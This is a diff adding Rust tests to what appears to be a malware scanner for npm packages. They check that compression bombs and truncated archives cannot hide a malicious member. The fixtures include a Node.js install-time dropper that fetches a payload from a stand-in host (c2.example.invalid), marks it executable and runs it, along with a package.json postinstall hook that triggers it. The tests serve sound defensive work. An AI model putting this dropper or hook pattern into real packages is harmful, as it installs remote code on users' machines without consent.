@@ -311,6 +311,110 @@ fn hostile_archives_are_findings() {
     assert_eq!(finding(&bomb, "archive-bomb")["severity"], "high");
 }
 
+/// An install-time dropper, inert: it would fetch a payload and run it.
+const DROPPER: &[u8] = b"const http = require('http');
+const fs = require('fs');
+const os = require('os');
+const path = require('path');
+const { execFileSync } = require('child_process');
+const dest = path.join(os.tmpdir(), 'update-helper');
+http.get('http://c2.example.invalid/stage2', (res) => {
+  const file = fs.createWriteStream(dest);
+  res.pipe(file);
+  file.on('finish', () => {
+    fs.chmodSync(dest, 0o755);
+    execFileSync(dest);
+  });
+});
+";
+
+/// The npm tarball of issue 28 item 11: `package.json` with a postinstall hook, then
+/// `padding` bytes of zeros, then the dropper the hook runs.
+fn padded_dropper(padding: usize) -> Vec<u8> {
+    let zeros = vec![0u8; padding];
+    let mut files: Vec<(&str, &[u8])> = vec![(
+        "package.json",
+        br#"{"name":"padded-helper","version":"1.0.0","main":"index.js","scripts":{"postinstall":"node setup.js"}}"#,
+    )];
+    if padding > 0 {
+        files.push(("padding.bin", &zeros));
+    }
+    files.push(("setup.js", DROPPER));
+    files.push(("index.js", b"module.exports = require('./setup.js');\n"));
+    common::tar_gz_of(&files, "package/")
+}
+
+/// A compression bomb in the middle of an npm tarball does not hide the members after
+/// it: they are analysed, and the package is as malicious as without the padding.
+#[test]
+fn a_bomb_does_not_hide_what_follows_it() {
+    let tmp = tempfile::tempdir().unwrap();
+    let padded = padded_dropper(12 << 20);
+    assert!(padded.len() < 20_000, "{} bytes", padded.len());
+    std::fs::write(tmp.path().join("padded-helper-1.0.0.tgz"), &padded).unwrap();
+    std::fs::write(tmp.path().join("plain-helper-1.0.0.tgz"), padded_dropper(0)).unwrap();
+    for file in ["padded-helper-1.0.0.tgz", "plain-helper-1.0.0.tgz"] {
+        let (v, code) = json(tmp.path(), &[file]);
+        let p = &packages(&v)[0];
+        assert_eq!(p["verdict"], "malicious", "{file}: {p}");
+        assert_eq!(code, 1, "{file}");
+        assert!(p.get("incomplete").is_none(), "{file}: {p}");
+        let dropper: Vec<&Value> = p["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .filter(|f| f["path"] == "package/setup.js" && f["severity"] != "info")
+            .collect();
+        assert!(
+            dropper.iter().any(|f| f["rule"] == "download-execute"),
+            "{file}: the dropper's finding is missing: {p}"
+        );
+    }
+    let (v, _) = json(tmp.path(), &["padded-helper-1.0.0.tgz"]);
+    assert_eq!(
+        finding(&packages(&v)[0], "archive-bomb")["path"],
+        "package/padding.bin"
+    );
+}
+
+/// An artifact that breaks off after some members is judged on what was read and
+/// reported as not read in full, which fails the scan (exit 2) whatever that verdict.
+#[test]
+fn an_artifact_not_read_in_full_fails_the_scan() {
+    let tmp = tempfile::tempdir().unwrap();
+    let noise: Vec<u8> = (0..400_000u32)
+        .map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8)
+        .collect();
+    let whole = common::tar_gz_of(
+        &[
+            ("package.json", br#"{"name":"cut","version":"1.0.0"}"#),
+            ("index.js", b"module.exports = 1;\n"),
+            ("data.bin", &noise),
+            ("setup.js", DROPPER),
+        ],
+        "package/",
+    );
+    std::fs::write(tmp.path().join("cut-1.0.0.tgz"), &whole[..whole.len() / 2]).unwrap();
+    let (v, code) = json(tmp.path(), &["cut-1.0.0.tgz"]);
+    assert_eq!(code, 2, "{v}");
+    let p = &packages(&v)[0];
+    assert_eq!(p["incomplete"][0]["cause"], "truncated", "{p}");
+    let out = customs(tmp.path(), &["scan", "cut-1.0.0.tgz"]);
+    assert_eq!(out.status.code(), Some(2));
+    assert!(
+        stdout(&out).contains("not read in full"),
+        "{}",
+        stdout(&out)
+    );
+    // An update to it fails `diff` the same way.
+    std::fs::write(tmp.path().join("cut-0.9.0.tgz"), &whole).unwrap();
+    let out = customs(
+        tmp.path(),
+        &["diff", "--offline", "cut-0.9.0.tgz", "cut-1.0.0.tgz"],
+    );
+    assert_eq!(out.status.code(), Some(2), "{}", stdout(&out));
+}
+
 /// A wheel's RECORD is checked against every member: by sha256 for what customs reads,
 /// by size for what it does not inflate (a native library past its header, an image), so
 /// a swapped binary is caught without inflating every binary of every wheel.
